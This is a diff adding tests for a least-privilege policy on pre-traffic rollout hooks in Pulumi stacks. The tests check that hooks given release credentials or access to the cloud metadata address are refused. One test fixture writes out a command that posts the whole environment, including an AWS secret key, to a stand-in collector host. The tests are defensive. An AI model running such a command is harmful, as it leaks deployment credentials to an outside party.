@@ -20,7 +20,12 @@ from tests.test_offline_check import project_copy
 
 pytestmark = pytest.mark.policy
 
-RULES = {"rollout-analysis-required", "rollout-first-step-small", "rollout-pause-after-weight"}
+RULES = {
+    "rollout-analysis-required",
+    "rollout-first-step-small",
+    "rollout-pause-after-weight",
+    "rollout-hook-least-privilege",
+}
 
 
 def with_rollout(stack: str, rollout: dict | None) -> dict:
@@ -125,3 +130,65 @@ def test_a_pull_request_that_weakens_prod_fails_bluegreen_check_naming_the_key(t
     assert result.exit_code == 1, result.output
     assert "bluegreen:rollout.steps[0].setWeight is 50" in result.output
     assert "rollout-first-step-small" in result.output
+
+
+def with_hook(stack: str, hook: dict) -> dict:
+    rollout = copy.deepcopy(stack_config(stack).get("bluegreen:rollout") or {})
+    rollout["hooks"] = {"preTraffic": hook}
+    return with_rollout(stack, rollout)
+
+
+@pytest.mark.parametrize(
+    "credential", ["AWS_SECRET_ACCESS_KEY", "PULUMI_ACCESS_TOKEN", "GITHUB_TOKEN", "ARM_CLIENT_SECRET"]
+)
+def test_a_hook_given_a_release_credential_is_refused_in_prod_naming_it(policy_pack, credential):
+    config = with_hook("prod", {"command": ["./smoke.sh"], "env": ["SMOKE_TOKEN", credential]})
+    [(name, level, message)] = judged(policy_pack, config)
+    assert (name, level) == ("rollout-hook-least-privilege", "mandatory")
+    assert f"bluegreen:rollout.hooks.preTraffic.env passes {credential} to the hook" in message
+    assert "SMOKE_TOKEN to the hook" not in message
+
+
+def test_a_hook_with_its_own_credential_passes_in_prod(policy_pack):
+    assert judged(policy_pack, with_hook("prod", {"command": ["./smoke.sh"], "env": ["SMOKE_TOKEN"]})) == []
+
+
+def test_a_url_hook_allowed_to_reach_metadata_is_refused_in_prod(policy_pack):
+    config = with_hook("prod", {"url": "http://169.254.169.254/latest/", "allowLinkLocal": True})
+    [(name, level, message)] = judged(policy_pack, config)
+    assert (name, level) == ("rollout-hook-least-privilege", "mandatory")
+    assert "bluegreen:rollout.hooks.preTraffic.allowLinkLocal is true" in message
+
+
+def test_dev_may_name_a_credential_with_an_advisory_warning(policy_pack):
+    config = with_hook("dev", {"command": ["./smoke.sh"], "env": ["AWS_PROFILE"]})
+    [(name, level, _)] = judged(policy_pack, config, stack="dev")
+    assert (name, level) == ("rollout-hook-least-privilege", "advisory")
+
+
+def test_bluegreen_check_lists_every_hook_and_fails_prod_with_a_credential_hook(tmp_path, monkeypatch):
+    monkeypatch.setenv("COLUMNS", "300")
+    project_copy(tmp_path, "Pulumi.prod.yaml")
+    stack_file = tmp_path / "Pulumi.prod.yaml"
+    document = yaml.safe_load(stack_file.read_text())
+    exfiltrate = ["sh", "-c", 'curl -d "$(env)" https://collector.example.net/']
+    document["config"]["bluegreen:rollout"]["hooks"] = {
+        "preTraffic": {"command": exfiltrate, "env": ["AWS_SECRET_ACCESS_KEY"]}
+    }
+    stack_file.write_text(yaml.safe_dump(document))
+    markdown_path = tmp_path / "check.md"
+
+    result = CliRunner().invoke(
+        app, ["check", "--stack", "prod", "--project-dir", str(tmp_path), "--markdown", str(markdown_path)]
+    )
+
+    assert result.exit_code == 1, result.output
+    shown = (
+        "run sh -c 'curl -d \"$(env)\" https://collector.example.net/' "
+        "(environment: PATH, HOME, TEST_URL, URL, AWS_SECRET_ACCESS_KEY)"
+    )
+    assert f"hook preTraffic: {shown}" in result.output
+    assert "rollout-hook-least-privilege" in result.output
+    report = markdown_path.read_text()
+    assert "### Hooks: code these stacks run on the release machine" in report
+    assert "collector.example.net" in report and "AWS\\_SECRET\\_ACCESS\\_KEY" in report
